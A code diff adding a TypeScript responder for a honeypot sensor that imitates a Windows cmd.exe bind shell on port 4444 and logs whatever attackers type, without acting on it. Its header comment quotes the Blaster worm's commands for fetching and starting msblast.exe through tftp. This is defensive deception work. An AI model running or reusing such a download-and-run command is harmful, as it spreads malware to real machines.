@@ -1,0 +1,77 @@
+// Responder for the bind-shell port 4444 (Blaster's exploit opens cmd.exe there; the worm then
+// types `tftp -i <host> GET msblast.exe` and `start msblast.exe`). Design choice: we send the text
+// banner and prompt cmd.exe would print, because worms and operators type their commands only
+// once a shell answers, and those commands are the intelligence; we send nothing else — no command
+// output, nothing executable — and never act on what is typed (never fetch, never connect).
+
+import type { OsFlavour } from '../sensor-types.js';
+import { LIMIT_HIT } from '../sensor-limits.js';
+import type { Responder, ResponderContext } from './responder-types.js';
+
+const XP = { banner: 'Microsoft Windows XP [Version 5.1.2600]\r\n(C) Copyright 1985-2001 Microsoft Corp.\r\n\r\n', prompt: 'C:\\WINDOWS\\system32>' };
+const BANNERS: Record<OsFlavour, { banner: string; prompt: string }> = {
+  'windows-nt4-sp6': { banner: 'Microsoft(R) Windows NT(TM)\r\n(C) Copyright 1985-1996 Microsoft Corp.\r\n\r\n', prompt: 'C:\\WINNT\\system32>' },
+  'windows-2000-sp4': { banner: 'Microsoft Windows 2000 [Version 5.00.2195]\r\n(C) Copyright 1985-2000 Microsoft Corp.\r\n\r\n', prompt: 'C:\\WINNT\\system32>' },
+  'windows-xp-sp1': XP,
+  'windows-xp-sp2': XP,
+  'windows-2003': { banner: 'Microsoft Windows [Version 5.2.3790]\r\n(C) Copyright 1985-2003 Microsoft Corp.\r\n\r\n', prompt: 'C:\\WINDOWS\\system32>' },
+};
+
+/** Printable rendering of peer bytes: ASCII kept, everything else as \xNN so nothing is lost or interpreted. */
+export function printable(bytes: Uint8Array): string {
+  let s = '';
+  for (const b of bytes) {
+    if (b >= 0x20 && b < 0x7f && b !== 0x5c) s += String.fromCharCode(b);
+    else if (b === 0x5c) s += '\\\\';
+    else if (b === 0x09) s += '\\t';
+    else s += `\\x${b.toString(16).padStart(2, '0')}`;
+  }
+  return s;
+}
+
+export function shellResponder(ctx: ResponderContext): Responder {
+  const { banner, prompt } = BANNERS[ctx.persona.os];
+  const limit = ctx.record.limitsRef.maxPayloadEventChars;
+  let pending: Buffer[] = [];
+  let pendingLen = 0;
+  let emittedChars = 0;
+
+  const emitLine = (line: Buffer): void => {
+    const text = printable(line.subarray(0, Math.max(0, limit - emittedChars)));
+    if (line.length > 0 && emittedChars + line.length > limit) ctx.record.hit(LIMIT_HIT.maxPayloadEventChars);
+    if (text.length === 0) return;
+    emittedChars += Math.min(line.length, limit);
+    const f = ctx.record.flow;
+    ctx.emit({ type: 'payload', ts: ctx.now(), source: 'sensor', src: f.src, dst: f.dst, proto: 'tcp', sport: f.sport, dport: ctx.basePort, session: ctx.record.id, text });
+  };
+
+  return {
+    start() {
+      if (ctx.persona.shellBanner) ctx.send(Buffer.from(banner + prompt, 'latin1'));
+    },
+    data(chunk) {
+      let from = 0;
+      for (let i = 0; i < chunk.length; i++) {
+        if (chunk[i] !== 0x0a) continue;
+        const piece = chunk.subarray(from, i);
+        const line = pendingLen ? Buffer.concat([...pending, piece]) : piece;
+        pending = [];
+        pendingLen = 0;
+        emitLine(line[line.length - 1] === 0x0d ? line.subarray(0, line.length - 1) : line);
+        if (ctx.persona.shellBanner) ctx.send(Buffer.from(`\r\n${prompt}`, 'latin1'));
+        from = i + 1;
+      }
+      // Keep a partial line only up to the text cap: a peer sending no newline cannot grow it.
+      if (from < chunk.length && pendingLen < limit) {
+        const rest = Buffer.from(chunk.subarray(from, from + (limit - pendingLen)));
+        pending.push(rest);
+        pendingLen += rest.length;
+      }
+    },
+    finish() {
+      if (pendingLen) emitLine(Buffer.concat(pending));
+      pending = [];
+      pendingLen = 0;
+    },
+  };
+}
